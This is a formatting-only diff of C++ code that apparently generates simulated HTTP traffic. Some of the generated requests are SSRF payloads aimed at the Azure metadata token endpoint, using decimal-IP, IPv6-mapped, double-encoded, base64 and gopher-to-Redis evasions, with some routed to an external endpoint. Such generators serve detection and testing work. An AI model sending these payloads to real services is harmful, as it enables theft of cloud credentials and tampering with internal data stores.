@@ -8,8 +8,10 @@ namespace {
 std::string percent(std::string_view text) {
   std::string out;
   for (const char c : text) {
-    if (std::isalnum(static_cast<unsigned char>(c)) || c == '-' || c == '_' || c == '.' || c == '~') out += c;
-    else out += fmt::format("%{:02X}", static_cast<unsigned char>(c));
+    if (std::isalnum(static_cast<unsigned char>(c)) || c == '-' || c == '_' || c == '.' || c == '~')
+      out += c;
+    else
+      out += fmt::format("%{:02X}", static_cast<unsigned char>(c));
   }
   return out;
 }
@@ -29,8 +31,9 @@ std::string base64(std::string_view in) {
 }  // namespace
 
 Request request_of(const World& world, const Cluster& c, const Workload& x, const Inbound& q) {
-  constexpr std::string_view kPaths[] = {"/api/v1/items?page=2", "/healthz", "/api/v1/items/{}", "/api/v2/{}/status", "/api/v1/search?q=blue", "/metrics", "/api/v1/users/me", "/api/v1/{}/confirm",
-                                         "/static/app.js", "/api/v1/quote", "/api/v1/{}/lines", "/"};
+  constexpr std::string_view kPaths[] = {"/api/v1/items?page=2",  "/healthz",      "/api/v1/items/{}", "/api/v2/{}/status",
+                                         "/api/v1/search?q=blue", "/metrics",      "/api/v1/users/me", "/api/v1/{}/confirm",
+                                         "/static/app.js",        "/api/v1/quote", "/api/v1/{}/lines", "/"};
   Request r;
   r.host = fmt::format("{}.{}", x.name, world.domain);
   r.agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";
@@ -41,7 +44,8 @@ Request request_of(const World& world, const Cluster& c, const Workload& x, cons
     return r;
   }
   const std::string out = fmt::format("https://{}/u", world.endpoints[world.target].name);
-  const std::string metadata = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net";
+  const std::string metadata =
+      "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net";
   r.method = "GET";
   r.agent = "python-requests/2.31.0";
   r.action = "GET Receipts/Preview";
@@ -49,10 +53,16 @@ Request request_of(const World& world, const Cluster& c, const Workload& x, cons
   switch (q.path % 6) {
     case 0: r.target = "/api/v1/receipts/preview?source=" + percent(metadata); break;
     case 1: r.target = "/api/v1/receipts/preview?source=" + percent(percent(out)); break;
-    case 2: r.target = "/api/v1/receipts/preview?source=" + percent("http://2852039166/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net"); break;
-    case 3: r.target = "/api/v1/receipts/preview?source=" + percent(out) + "&callback=" + percent("http://[::ffff:169.254.169.254]/"); break;
+    case 2:
+      r.target = "/api/v1/receipts/preview?source=" +
+                 percent("http://2852039166/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net");
+      break;
+    case 3:
+      r.target = "/api/v1/receipts/preview?source=" + percent(out) + "&callback=" + percent("http://[::ffff:169.254.169.254]/");
+      break;
     case 4: r.target = "/api/v1/receipts/preview?source=" + percent("base64:" + base64(metadata)); break;
-    default: r.target = "/api/v1/receipts/preview?source=" + percent("gopher://127.0.0.1:6379/_" + percent("SAVE\r\n")) + "&to=" + percent(out);
+    default:
+      r.target = "/api/v1/receipts/preview?source=" + percent("gopher://127.0.0.1:6379/_" + percent("SAVE\r\n")) + "&to=" + percent(out);
   }
   (void)c;
   return r;
